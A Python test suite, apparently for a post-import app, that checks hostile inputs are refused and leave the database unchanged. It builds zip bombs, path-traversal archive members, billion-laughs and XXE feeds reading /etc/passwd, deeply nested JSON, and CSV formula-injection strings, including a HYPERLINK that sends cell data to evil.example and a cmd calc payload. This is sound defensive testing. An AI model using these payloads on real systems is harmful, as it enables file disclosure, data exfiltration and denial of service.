"""Hostile files and requests, end to end: each is refused with a message a person can act on,
the database is left exactly as it was, and the app goes on serving.

Everything goes through core.ingest (the path the Import page, the CLI and the demo take) and
is checked in the store afterwards: its posts, its import log and its data version. The archive
readers' own limits are tested one by one in test_archive.py and the fetcher's in test_fetch.py;
here the promise is the whole one. Every hostile file is built at test time, small or sparse:
none takes more than 10 MB on disk.
"""

from __future__ import annotations

import functools
import io
import json
import os
import signal
import sqlite3
import struct
import subprocess
import sys
import threading
import time
import tracemalloc
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pandas as pd
import pytest
import streamlit as st
from click.testing import CliRunner
from streamlit.testing.v1 import AppTest

from core import ingest
from core.__main__ import cli
from core.reports.export import EXPORT_COLUMNS, posts_csv
from core.sources import fetch
from core.store import Store

ROOT = Path(__file__).resolve().parent.parent
WORKSPACE = "Hostile"


# --- the promise: refused, with a message, and nothing changed -------------------------------
@dataclass(frozen=True)
class Snapshot:
    posts: pd.DataFrame
    imports: pd.DataFrame
    labels: dict[str, str]
    version: int


def snapshot(store: Store, workspace: str = WORKSPACE) -> Snapshot:
    return Snapshot(
        store.posts(workspace),
        store.imports(workspace),
        store.human_labels(workspace),
        store.data_version(workspace),
    )


def assert_unchanged(store: Store, before: Snapshot, workspace: str = WORKSPACE) -> None:
    after = snapshot(store, workspace)
    pd.testing.assert_frame_equal(after.posts, before.posts)
    pd.testing.assert_frame_equal(after.imports, before.imports)
    assert after.labels == before.labels
    assert after.version == before.version


@pytest.fixture
def db(store: Store, make) -> Store:
    """A workspace that already holds a small blog and one of the person's labels, so "nothing
    changed" means something."""
    store.create_workspace(WORKSPACE)
    feed = make.rss([make.rss_item(1), make.rss_item(2, "Buy our course today, 20% off!")])
    assert ingest.import_bytes(store, WORKSPACE, "blog.xml", feed).ok
    store.set_label(WORKSPACE, store.posts(WORKSPACE)["id"].iloc[0], "give")
    return store


Importer = Callable[[str, bytes], ingest.FileReport]


@pytest.fixture(params=["upload", "path"])
def importer(request: pytest.FixtureRequest, db: Store, tmp_path: Path) -> Importer:
    """Import as the Import page does (the bytes of an upload) or as the CLI does (a file on
    disk, read as needed): both must refuse the same files the same way."""
    if request.param == "upload":
        return lambda name, data: ingest.import_bytes(db, WORKSPACE, name, data)

    def from_path(name: str, data: bytes) -> ingest.FileReport:
        folder = tmp_path / f"upload-{len(list(tmp_path.iterdir()))}"
        folder.mkdir()
        path = folder / name
        path.write_bytes(data)
        return ingest.import_path(db, WORKSPACE, path)

    return from_path


@pytest.fixture
def refused(db: Store, importer: Importer) -> Callable[..., str]:
    """refused(name, data, *phrases): import, expect a refusal whose message holds each phrase
    and a database exactly as before; returns the message."""

    def check(name: str, data: bytes, *phrases: str) -> str:
        before = snapshot(db)
        started = time.monotonic()
        report = importer(name, data)
        assert not report.ok, f"{name} was imported: {report.describe()}"
        assert time.monotonic() - started < 10, "a refusal should not take long"
        message = report.describe()
        assert message.startswith("Refused: ") and name in message
        for phrase in phrases:
            assert phrase in report.error, report.error
        assert_unchanged(db, before)
        return report.error

    return check


# --- builders ---------------------------------------------------------------------------------
def zipped(members: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buffer.getvalue()


def tweets_js(n: int, start: int = 0, text: str = "A tip about brewing, number {i}.") -> bytes:
    records = [
        {
            "tweet": {
                "id_str": str(10_000 + i),
                "id": str(10_000 + i),
                "created_at": "Wed Nov 26 11:51:24 +0000 2025",
                "full_text": text.format(i=i),
                "lang": "en",
                "entities": {"urls": [], "hashtags": [], "user_mentions": []},
            }
        }
        for i in range(start, start + n)
    ]
    return ("window.YTD.tweets.part0 = " + json.dumps(records)).encode()


def x_archive(n: int = 50) -> bytes:
    return zipped({"data/tweets.js": tweets_js(n)})


def with_sizes(data: bytes, member: str, file_size: int) -> bytes:
    """The zip with member's uncompressed size rewritten in its local header and in the central
    directory, as a hand-made bomb does: the header says one thing, the stream inflates another."""
    info = zipfile.ZipFile(io.BytesIO(data)).getinfo(member)
    patched = bytearray(data)
    local = info.header_offset
    assert patched[local : local + 4] == b"PK\x03\x04"
    struct.pack_into("<I", patched, local + 22, file_size)
    central = patched.find(b"PK\x01\x02")
    while central != -1:
        length = struct.unpack_from("<H", patched, central + 28)[0]
        if patched[central + 46 : central + 46 + length] == member.encode():
            struct.pack_into("<I", patched, central + 24, file_size)
        central = patched.find(b"PK\x01\x02", central + 4)
    return bytes(patched)


@pytest.fixture(scope="module")
def bomb() -> bytes:
    """50 MB of zeros in 50 KB: far past the ratio any export has."""
    return zipped({"data/tweets.js": b"\0" * (50 * 1024**2)})


@pytest.fixture(scope="module")
def crowded() -> bytes:
    """100,000 empty members (about 1.5 s to build, 9 MB)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as zf:
        for i in range(100_000):
            zf.writestr(zipfile.ZipInfo(f"data/f{i}.js"), b"")
    return buffer.getvalue()


# --- archives ---------------------------------------------------------------------------------
def test_a_zip_bomb_is_refused(refused, bomb) -> None:
    refused("twitter-archive.zip", bomb, "zip bomb")


def test_zips_nested_three_deep_are_refused(refused) -> None:
    inner = zipped({"data/tweets.js": tweets_js(3)})
    nested = zipped({"a.zip": zipped({"b.zip": zipped({"c.zip": inner})})})
    refused("nested.zip", nested, "nested more than")


def test_a_zip_of_nested_bombs_is_refused(refused, bomb) -> None:
    refused("bundle.zip", zipped({"export.zip": bomb}), "zip bomb")


def test_a_zip_with_100000_members_is_refused(refused, crowded) -> None:
    refused("twitter-archive.zip", crowded, "100,000 files")


@pytest.mark.parametrize(
    "member",
    ["../tweets.js", "data/../../tweets.js", "/etc/cron.d/tweets.js", "C:\\tweets.js",
     "..\\..\\tweets.js"],
)  # fmt: skip
def test_member_names_pointing_outside_the_archive_are_refused(refused, member: str) -> None:
    archive = zipped({"data/tweets.js": tweets_js(3), member: tweets_js(1, start=9)})
    refused("twitter-archive.zip", archive, "points outside the archive")


def test_a_zip_declaring_small_sizes_that_inflates_large_is_refused(refused) -> None:
    archive = zipped({"data/tweets.js": tweets_js(20_000)})  # 3.7 MB inflated, 180 KB packed
    refused(
        "twitter-archive.zip", with_sizes(archive, "data/tweets.js", 1_000), "could not be read"
    )


def test_a_bomb_declaring_a_harmless_size_is_refused(refused, bomb) -> None:
    refused("twitter-archive.zip", with_sizes(bomb, "data/tweets.js", 60_000), "could not be read")


def test_a_zip_declaring_huge_sizes_is_refused_before_reading(refused) -> None:
    archive = with_sizes(x_archive(), "data/tweets.js", 0xFFFF_FFF0)
    refused("twitter-archive.zip", archive, "zip bomb")


@pytest.mark.parametrize("keep", [0.5, 0.9, 0.99])
def test_a_truncated_zip_is_refused(refused, keep: float) -> None:
    archive = zipped({"data/tweets.js": tweets_js(2_000)})
    refused("twitter-archive.zip", archive[: int(len(archive) * keep)], "download it again")


# --- XML --------------------------------------------------------------------------------------
LAUGHS = "".join(
    f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)
)  # 10^9 "lol"s from a few hundred bytes


def feed_with(doctype: str, body: str, root: str = "rss") -> bytes:
    if root == "rss":
        document = (
            '<rss version="2.0" xmlns:wp="http://wordpress.org/export/1.2/"><channel><title>t'
            "</title><item><title>Post</title><link>https://blog.example/1</link><description>"
            f"{body}</description><pubDate>Mon, 04 Mar 2024 09:30:00 GMT</pubDate></item>"
            "</channel></rss>"
        )
    else:
        document = (
            '<feed xmlns="http://www.w3.org/2005/Atom"><title>t</title><entry><title>Post'
            "</title><id>urn:post:1</id><updated>2024-03-04T09:30:00Z</updated>"
            f"<content>{body}</content></entry></feed>"
        )
    return f'<?xml version="1.0"?>\n<!DOCTYPE {root} [{doctype}]>\n{document}'.encode()


@pytest.mark.parametrize("root", ["rss", "feed"])
def test_a_billion_laughs_feed_is_refused(refused, root: str) -> None:
    data = feed_with(f'<!ENTITY lol0 "lol">{LAUGHS}', "&lol9;", root)
    refused("feed.xml", data, "declares its own XML entities")


@pytest.mark.parametrize(
    "doctype",
    [
        '<!ENTITY xxe SYSTEM "file:///etc/passwd">',
        '<!-- a comment first --><!ENTITY xxe SYSTEM "file:///etc/passwd">',
        '<!ENTITY % remote SYSTEM "file:///etc/passwd"> %remote;<!ENTITY xxe "x">',
    ],
)
def test_a_feed_with_external_entities_is_refused_and_no_file_is_read(
    refused, db: Store, doctype: str
) -> None:
    refused("feed.xml", feed_with(doctype, "Leak: &xxe;"), "declares its own XML entities")
    stored = " ".join(db.posts(WORKSPACE)["text"]) + " ".join(db.posts(WORKSPACE)["text_raw"])
    assert "root:" not in stored and "/bin/" not in stored and "file:///" not in stored


def test_a_utf16_feed_declaring_entities_is_refused_too(refused) -> None:
    data = feed_with('<!ENTITY xxe SYSTEM "file:///etc/passwd">', "&xxe;").decode()
    data = data.replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="utf-16"?>')
    refused("feed.xml", data.encode("utf-16"), "declares its own XML entities")


def test_a_feed_about_entities_is_still_imported(db: Store) -> None:
    """Entities are refused in the prolog only: a post may quote a DOCTYPE in its text."""
    post = "&lt;!DOCTYPE x [&lt;!ENTITY xxe SYSTEM 'file:///etc/passwd'&gt;]&gt; is how XXE works"
    data = feed_with("", post).replace(b"<!DOCTYPE rss []>\n", b"")
    report = ingest.import_bytes(db, WORKSPACE, "feed.xml", data)
    assert report.ok, report.describe()
    assert any("<!ENTITY xxe" in t for t in db.posts(WORKSPACE)["text"])


@pytest.mark.parametrize("payload", ["laughs", "external"])
def test_an_excel_sheet_with_entities_is_refused(refused, make, payload: str) -> None:
    from openpyxl import Workbook

    book = Workbook()
    book.active.append(["date", "text"])
    book.active.append(["2024-03-01", "CELL"])
    buffer = io.BytesIO()
    book.save(buffer)
    doctype = (
        f'<!DOCTYPE worksheet [<!ENTITY lol0 "lol">{LAUGHS}]>'
        if payload == "laughs"
        else '<!DOCTYPE worksheet [<!ENTITY lol9 SYSTEM "file:///etc/passwd">]>'
    )
    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    members = {n: source.read(n) for n in source.namelist()}
    sheet = members["xl/worksheets/sheet1.xml"]
    members["xl/worksheets/sheet1.xml"] = doctype.encode() + sheet.replace(b"CELL", b"&lol9;")
    refused("posts.xlsx", zipped(members), "could not be read")


# --- JSON -------------------------------------------------------------------------------------
DEEP = "[" * 100_000 + "]" * 100_000


@pytest.mark.parametrize(
    ("name", "document"),
    [
        ("feed.json", '{"version": "https://jsonfeed.org/version/1.1", "items": ' + DEEP + "}"),
        ("tweets.js", "window.YTD.tweets.part0 = " + DEEP),
        ("outbox.json", '{"@context": "https://www.w3.org/ns/activitystreams", '
                        '"type": "OrderedCollection", "orderedItems": ' + DEEP + "}"),
        ("posts.json", DEEP),
        ("deep.json", '{"a":' * 100_000 + "1" + "}" * 100_000),
    ],
)  # fmt: skip
def test_json_nested_100000_deep_is_refused(refused, name: str, document: str) -> None:
    refused(name, document.encode())


# --- size and garbage -------------------------------------------------------------------------
def test_a_1gb_one_line_file_is_refused_by_its_size_without_being_read(
    db: Store, tmp_path: Path
) -> None:
    path = tmp_path / "posts.csv"
    with path.open("wb") as fh:
        fh.write(b"date,text\n2024-03-01,")
        fh.truncate(1 << 30)  # sparse: 1 GB on paper, a few bytes on disk
    before = snapshot(db)
    tracemalloc.start()
    try:
        started = time.monotonic()
        report = ingest.import_path(db, WORKSPACE, path)
        elapsed = time.monotonic() - started
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert not report.ok and "larger than" in report.error, report.describe()
    assert peak < 64 * 1024**2, f"{peak / 1024**2:.0f} MB held: the file was read"
    assert elapsed < 5
    assert_unchanged(db, before)


@pytest.mark.parametrize("name", ["posts.json", "Shares.csv", "tweets.js", "feed.xml",
                                  "posts.xlsx", "twitter-archive.zip"])  # fmt: skip
def test_binary_garbage_is_refused(refused, name: str) -> None:
    garbage = bytes((i * 7919 + 13) % 256 for i in range(64 * 1024))
    refused(name, garbage)


def test_garbage_behind_a_zip_signature_is_refused(refused) -> None:
    refused("twitter-archive.zip", b"PK\x03\x04" + os.urandom(64 * 1024), "not a readable zip")


# --- text encodings: read, not refused --------------------------------------------------------
SHEET_TEXT = [
    ("2024-03-01", "Café crème: how we brew it at home — a guide"),
    ("2024-03-02", "Our naïve espresso blend is back, €5 off this week: buy now"),
]


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le-bom", "utf-16-be-bom", "cp1252"])
def test_a_sheet_in_utf16_or_cp1252_is_imported_with_its_text(
    db: Store, importer: Importer, encoding: str
) -> None:
    text = "date,text\r\n" + "".join(f'{d},"{t}"\r\n' for d, t in SHEET_TEXT)
    boms = {"utf-16-le-bom": b"\xff\xfe", "utf-16-be-bom": b"\xfe\xff"}
    data = boms[encoding] + text.encode(encoding[:9]) if encoding in boms else text.encode(encoding)
    report = importer("posts.csv", data)
    assert report.ok, report.describe()
    stored = set(db.posts(WORKSPACE)["text"])
    assert {t for _, t in SHEET_TEXT} <= stored


def test_a_feed_in_utf16_is_imported_with_its_text(db: Store, make) -> None:
    feed = make.rss([make.rss_item(7, "Über Kaffee: a guide to grinding, für alle")]).decode()
    data = feed.replace('encoding="utf-8"', 'encoding="utf-16"').encode("utf-16")
    report = ingest.import_bytes(db, WORKSPACE, "feed.xml", data)
    assert report.ok, report.describe()
    assert any("Über Kaffee" in t for t in db.posts(WORKSPACE)["text"])


# --- formulas: exported as text ---------------------------------------------------------------
FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]


def test_cells_starting_with_formula_characters_are_exported_neutralised(db: Store, make) -> None:
    rows = [["date", "text"], *[[f"2024-04-0{i + 1}", f] for i, f in enumerate(FORMULAS)]]
    report = ingest.import_bytes(db, WORKSPACE, "posts.csv", make.csv(rows))
    assert report.ok, report.describe()
    frame = db.posts(WORKSPACE)
    # Stored as written: neutralising is the export's job, not the database's.
    assert {f.strip() for f in FORMULAS} <= {t.strip() for t in frame["text"]}

    from_app = posts_csv(frame.assign(reasons=[[] for _ in range(len(frame))]))
    cli_run = CliRunner().invoke(cli, ["posts", "--workspace", WORKSPACE, "--format", "csv"])
    assert cli_run.exit_code == 0, cli_run.output
    for exported in (from_app, cli_run.stdout_bytes):
        table = pd.read_csv(io.BytesIO(exported), encoding="utf-8-sig", dtype=str)
        assert list(table.columns) == EXPORT_COLUMNS
        for cell in table.fillna("").to_numpy().ravel():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
        texts = set(table["text"])
        assert {"'" + f for f in FORMULAS if not f.startswith("\t")} <= texts


# --- feed URLs --------------------------------------------------------------------------------
@pytest.fixture
def fetch_url(db: Store, only_loopback, monkeypatch: pytest.MonkeyPatch) -> Callable[..., str]:
    """fetch_url(url, *phrases): import a URL through core.ingest, this machine allowed (the
    local server) with a short timeout and a 1 MB cap; expect a refusal and no change."""
    monkeypatch.setattr(
        fetch,
        "fetch_feed",
        functools.partial(fetch.fetch_feed, allow_private=True, timeout=0.5, max_bytes=1024**2),
    )

    def check(url: str, *phrases: str) -> str:
        before = snapshot(db)
        started = time.monotonic()
        report = ingest.import_url(db, WORKSPACE, url)
        assert time.monotonic() - started < 5
        assert not report.ok, report.describe()
        for phrase in phrases:
            assert phrase in report.error, report.error
        assert_unchanged(db, before)
        return report.error

    return check


@pytest.mark.parametrize(
    "url", ["file:///etc/passwd", "/etc/passwd", "~/.ssh/id_rsa", "./data/goodwill.sqlite3",
            "C:\\Users\\me\\feed.xml", "ftp://127.0.0.1/feed.xml", "gopher://127.0.0.1:70/"],
)  # fmt: skip
def test_feed_urls_to_local_files_are_refused(fetch_url, url: str) -> None:
    fetch_url(url, "Only web addresses")


def test_a_server_that_never_answers_times_out(fetch_url, local_server) -> None:
    local_server.routes["/feed"] = lambda handler: local_server.stopping.wait(5)
    fetch_url(local_server.url("/feed"), "did not answer within 0.5 seconds")


def test_a_server_that_streams_forever_is_cut_at_the_cap(fetch_url, local_server) -> None:
    def endless(handler) -> None:
        handler.send_response(200)
        handler.send_header("Content-Type", "application/rss+xml")
        handler.end_headers()
        handler.wfile.write(b"<rss><channel>")
        chunk = b"<item><title>again</title></item>" * 2000
        while not local_server.stopping.is_set():
            handler.wfile.write(chunk)

    local_server.routes["/feed"] = endless
    fetch_url(local_server.url("/feed"), "sends more than 1 MB")


def test_a_redirect_loop_is_refused(fetch_url, local_server) -> None:
    def loop(handler) -> None:
        handler.send_response(302)
        handler.send_header("Location", "/feed?again")
        handler.end_headers()

    local_server.routes["/feed"] = loop
    local_server.routes["/feed?again"] = loop
    fetch_url(local_server.url("/feed"), "redirects more than")


def test_a_redirect_to_a_local_file_is_refused(fetch_url, local_server) -> None:
    def to_file(handler) -> None:
        handler.send_response(301)
        handler.send_header("Location", "file:///etc/passwd")
        handler.end_headers()

    local_server.routes["/feed"] = to_file
    fetch_url(local_server.url("/feed"), "Only web addresses")


def test_a_hostile_file_behind_a_url_is_refused_like_an_upload(fetch_url, local_server) -> None:
    doctype = '<!ENTITY xxe SYSTEM "file:///etc/passwd">'
    local_server.add("/feed", feed_with(doctype, "&xxe;"), "application/rss+xml")
    fetch_url(local_server.url("/feed"), "declares its own XML entities")


# --- two sessions at once ---------------------------------------------------------------------
def run_together(*jobs: Callable[[], None]) -> None:
    """Run the jobs in threads at once; re-raise the first failure."""
    failures: list[BaseException] = []

    def guarded(job: Callable[[], None]) -> None:
        try:
            job()
        except BaseException as exc:  # noqa: BLE001 - handed to the test thread below
            failures.append(exc)

    threads = [threading.Thread(target=guarded, args=(job,)) for job in jobs]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=120)
    assert not any(t.is_alive() for t in threads), "a session hung"
    if failures:
        raise failures[0]


def integrity(url: str) -> str:
    with sqlite3.connect(url.removeprefix("sqlite:///")) as conn:
        return conn.execute("PRAGMA integrity_check").fetchone()[0]


def test_relabelling_while_another_session_imports_loses_no_label(temp_database: str) -> None:
    first = Store(temp_database)
    first.create_workspace(WORKSPACE)
    assert ingest.import_bytes(first, WORKSPACE, "tweets.js", tweets_js(200)).ok
    ids = list(first.posts(WORKSPACE)["id"])
    wanted = {pid: ("ask" if i % 3 == 0 else "give") for i, pid in enumerate(ids)}

    def relabel() -> None:  # as the Posts page does: one label at a time, relearning now and then
        mine = Store(temp_database)
        for i, (pid, label) in enumerate(wanted.items()):
            mine.set_label(WORKSPACE, pid, label)
            if i % 50 == 49:
                ingest.reclassify(mine, WORKSPACE)

    def import_again() -> None:  # another tab importing exports, some new posts, some edited
        theirs = Store(temp_database)
        for round_ in range(8):
            # Edited, not replaced: a post whose text became another post's loses its label
            # (tests/test_hostile_two.py); an edit keeps it, whoever imports it when.
            edited = "A tip about brewing, number {i}, edited."
            start = 150 + 20 * round_
            data = tweets_js(100, start, edited) if round_ % 2 else tweets_js(100, start)
            report = ingest.import_bytes(theirs, WORKSPACE, f"tweets-{round_}.js", data)
            assert report.ok, report.describe()

    run_together(relabel, import_again)

    assert first.human_labels(WORKSPACE) == wanted
    frame = first.posts(WORKSPACE).set_index("id")
    assert (frame.loc[ids, "label_by"] == "human").all()
    assert frame["label"].notna().all(), "a post lost its verdict"
    assert len(frame) == 150 + 20 * 7 + 100
    assert integrity(temp_database) == "ok"


def test_the_same_file_imported_by_three_sessions_at_once_lands_once(temp_database: str) -> None:
    Store(temp_database).create_workspace(WORKSPACE)
    data = x_archive(500)
    reports: list[ingest.FileReport] = []

    def import_it() -> None:
        reports.append(ingest.import_bytes(Store(temp_database), WORKSPACE, "x.zip", data))

    run_together(import_it, import_it, import_it)

    assert all(r.ok for r in reports), [r.describe() for r in reports]
    assert sorted(r.summaries[0].imported for r in reports) == [0, 0, 500]
    assert len(Store(temp_database).posts(WORKSPACE)) == 500
    assert integrity(temp_database) == "ok"


def test_an_import_landing_while_relabelling_keeps_its_verdicts(db: Store, make) -> None:
    """A relabel works out every verdict, then saves them; a post another session imports in
    between keeps the verdict its import gave it (it used to lose it: left unlabelled). The
    relabel holds the workspace's write lock, so the import waits for it and lands after."""
    relabelling = Store(db.url)
    save = relabelling.save_verdicts
    reports: list[ingest.FileReport] = []
    other = make.rss([make.rss_item(20, "Buy our course today: 20% off, sign up now!")])

    def another_session() -> None:
        reports.append(ingest.import_bytes(Store(db.url), WORKSPACE, "more.xml", other))

    importer = threading.Thread(target=another_session)

    def save_after_an_import(*args, **kwargs) -> None:
        importer.start()
        importer.join(timeout=0.5)  # it cannot land inside the relabel; waiting gives it time
        save(*args, **kwargs)

    relabelling.save_verdicts = save_after_an_import  # type: ignore[method-assign]
    ingest.reclassify(relabelling, WORKSPACE)
    importer.join()
    assert reports[0].ok, reports[0].describe()

    frame = db.posts(WORKSPACE)
    assert len(frame) == 3
    assert frame["label"].notna().all(), frame[["id", "label"]]


# --- an import killed halfway -----------------------------------------------------------------
KILLED_IMPORT = """
import sys
from pathlib import Path
from core import ingest
from core.store import Store

url, path = sys.argv[1], Path(sys.argv[2])
store = Store(url)
def say(message):
    print(message, flush=True)
ingest.import_path(store, "Hostile", path, say)
print("finished", flush=True)
"""


def test_an_import_killed_halfway_leaves_the_database_whole(
    db: Store, temp_database: str, tmp_path: Path
) -> None:
    path = tmp_path / "tweets.js"
    path.write_bytes(tweets_js(80_000, start=100_000))
    before = snapshot(db)
    child = subprocess.Popen(
        [sys.executable, "-c", KILLED_IMPORT, temp_database, str(path)],
        cwd=ROOT, stdout=subprocess.PIPE, text=True,
    )  # fmt: skip
    assert child.stdout
    try:
        for line in child.stdout:
            if line.startswith("Saving"):
                time.sleep(0.2)  # into the one transaction that stores 80,000 posts (1-3 s)
                break
        child.send_signal(signal.SIGKILL)
    finally:
        child.wait(timeout=30)
    assert child.returncode == -signal.SIGKILL, "the import finished before it was killed"

    assert integrity(temp_database) == "ok"
    reopened = Store(temp_database)
    assert_unchanged(reopened, before)  # none of that file's posts: it never committed
    again = ingest.import_bytes(reopened, WORKSPACE, "tweets.js", tweets_js(5, start=100_000))
    assert again.ok and again.summaries[0].imported == 5  # and the next import lands as usual


# --- the app goes on serving ------------------------------------------------------------------
@pytest.fixture
def import_page(db: Store) -> Iterator[AppTest]:
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60).run()
    assert not at.exception, [e.value for e in at.exception]
    at.switch_page("pages/import.py").run()
    assert not at.exception, [e.value for e in at.exception]
    yield at
    st.cache_data.clear()
    st.cache_resource.clear()


def test_the_import_page_refuses_hostile_files_and_goes_on(import_page: AppTest, db, bomb) -> None:
    at = import_page
    before = snapshot(db)
    files = {
        "bomb.zip": bomb,
        "traversal.zip": zipped({"../../etc/cron.d/x": b"* * * * * root true"}),
        "feed.xml": feed_with('<!ENTITY xxe SYSTEM "file:///etc/passwd">', "&xxe;"),
        "deep.json": ('{"version": "https://jsonfeed.org/version/1.1", "items": ' + DEEP + "}")
        .encode(),
        "garbage.csv": bytes(range(256)) * 64,
    }  # fmt: skip
    at.file_uploader[0].set_value([(n, d, "application/octet-stream") for n, d in files.items()])
    at.button(key="FormSubmitter:upload-Import files").click().run()

    assert not at.exception, [e.value for e in at.exception]
    errors = [e.value for e in at.error]
    assert len(errors) == len(files), errors
    assert all(e.startswith("Refused") for e in errors)
    assert at.status[0].label == f"Imported 0 of {len(files)} file(s)"
    assert_unchanged(db, before)

    at.switch_page("pages/balance.py").run()  # and the app goes on
    assert not at.exception, [e.value for e in at.exception]
    assert at.title[0].value == "Balance"
